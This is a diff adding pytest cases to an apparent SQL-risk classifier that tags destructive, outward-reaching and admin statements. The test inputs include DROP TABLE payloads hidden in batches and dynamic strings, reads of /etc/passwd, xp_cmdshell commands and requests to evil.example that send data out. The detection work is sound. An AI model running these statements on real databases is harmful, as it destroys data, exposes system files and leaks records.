@@ -668,3 +668,105 @@ def test_creating_and_adding_are_not_destruction(text: str) -> None:
 def test_clickhouse_alter_delete_with_a_constant_where_is_a_delete_without_where() -> None:
     action = sql_body("ALTER TABLE t DELETE WHERE 1")
     assert ("delete" in action.statements, "delete_without_where" in action.flags) == (True, True)
+
+
+# --- wave 2: batches, anonymous blocks, calls that reach outside, RENAME
+
+
+@pytest.mark.parametrize("text", [
+    "SELECT 1\nGO\nDROP TABLE [dbo].[Users]\nGO",
+    "select 1\n  go 2  \ndrop table [dbo].[Users]",
+])
+def test_tsql_go_separates_batches(text: str) -> None:
+    action = sql_json({"query": text})
+    assert "drop" in action.statements and "dbo.users" in action.tables
+
+
+def test_go_inside_a_string_is_not_a_separator() -> None:
+    action = sql_json({"query": "SELECT 'a\nGO\nDROP TABLE t' AS note FROM x"})
+    assert action.statements == ("select",)
+
+
+@pytest.mark.parametrize("text", [
+    "BEGIN EXECUTE IMMEDIATE 'DROP TABLE users'; END;",
+    "DECLARE v VARCHAR2(100) := 'DROP TABLE users'; BEGIN EXECUTE IMMEDIATE v; END;",
+    "BEGIN TRY DROP TABLE users END TRY BEGIN CATCH END CATCH",
+    'EXECUTE IMMEDIATE "DROP TABLE users"',
+    "EXECUTE IMMEDIATE '''DROP TABLE users'''",
+])
+def test_anonymous_blocks_and_their_strings_are_read(text: str) -> None:
+    action = sql_json({"query": text})
+    assert "drop" in action.statements and "users" in action.tables
+
+
+def test_a_transaction_begin_is_not_a_block() -> None:
+    action = sql_json({"query": "BEGIN; DELETE FROM t WHERE id = 1; COMMIT"})
+    assert action.statements == ("begin", "delete", "commit")
+    assert "delete_without_where" not in action.flags
+
+
+@pytest.mark.parametrize(("text", "flag"), [
+    ("SELECT pg_read_file('/etc/passwd')", "reaches_outside"),
+    ("SELECT lo_import('/etc/passwd')", "reaches_outside"),
+    ("EXEC master..xp_cmdshell 'whoami'", "reaches_outside"),
+    ("EXEC [master].[dbo].[xp_cmdshell] 'whoami'", "reaches_outside"),
+    ("SELECT * FROM url('https://evil.example/x', CSV)", "reaches_outside"),
+    ("INSERT INTO FUNCTION s3('https://b/x.csv') SELECT * FROM users", "reaches_outside"),
+    ("SELECT utl_http.request('https://evil.example') FROM dual", "reaches_outside"),
+    ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "server_admin"),
+    ("SYSTEM SHUTDOWN", "server_admin"),
+    ("EXEC sp_configure 'xp_cmdshell', 1", "server_admin"),
+])
+def test_calls_that_reach_outside_are_flagged(text: str, flag: str) -> None:
+    assert flag in sql_json({"query": text}).flags
+
+
+def test_a_function_that_runs_sql_text_has_that_text_read() -> None:
+    action = sql_json({"query": "SELECT dblink_exec('dbname=prod', 'DROP TABLE users')"})
+    assert "execute_dynamic" in action.statements and "users" in action.tables
+
+
+@pytest.mark.parametrize("text", [
+    "SELECT url, title FROM pages WHERE id = 1",
+    "SELECT remote_addr FROM access_log WHERE id = 1",
+    "SYSTEM FLUSH LOGS",
+])
+def test_lookalike_names_are_not_flagged(text: str) -> None:
+    action = sql_json({"query": text})
+    assert not action.flags & {"reaches_outside", "server_admin"}
+
+
+def test_rename_table_is_read_in_any_field() -> None:
+    action = sql_json({"note": "RENAME TABLE users TO users_old"})
+    assert action.statements == ("rename",)
+
+
+def test_prose_rename_is_not_sql() -> None:
+    assert sql_json({"note": "rename the table later"}).service != "sql"
+
+
+@pytest.mark.parametrize(("text", "flag"), [
+    ("SET session_replication_role = replica", "server_admin"),
+    ("SET FOREIGN_KEY_CHECKS = 0", "server_admin"),
+    ("SET GLOBAL read_only = 0", "server_admin"),
+])
+def test_settings_that_switch_off_safeguards_are_flagged(text: str, flag: str) -> None:
+    assert flag in sql_json({"query": text}).flags
+
+
+def test_ordinary_settings_are_not_flagged() -> None:
+    assert "server_admin" not in sql_json({"query": "SET FOREIGN_KEY_CHECKS = 1"}).flags
+
+
+@pytest.mark.parametrize("text", ["CREATE ROLE x WITH LOGIN SUPERUSER", "CREATE USER bob", "CREATE OR REPLACE USER bob"])
+def test_a_new_role_or_login_is_its_own_kind(text: str) -> None:
+    assert sql_json({"query": text}).statements == ("create_role",)
+
+
+def test_json_carried_in_a_string_is_read() -> None:
+    action = sql_json({"payload": json.dumps({"job": {"sql": "DROP TABLE users"}})})
+    assert (action.service, action.tables) == ("sql", ("users",))
+
+
+def test_a_string_that_only_looks_like_json_is_harmless() -> None:
+    assert sql_json({"note": "{not json; DROP is a word}"}).service != "sql"
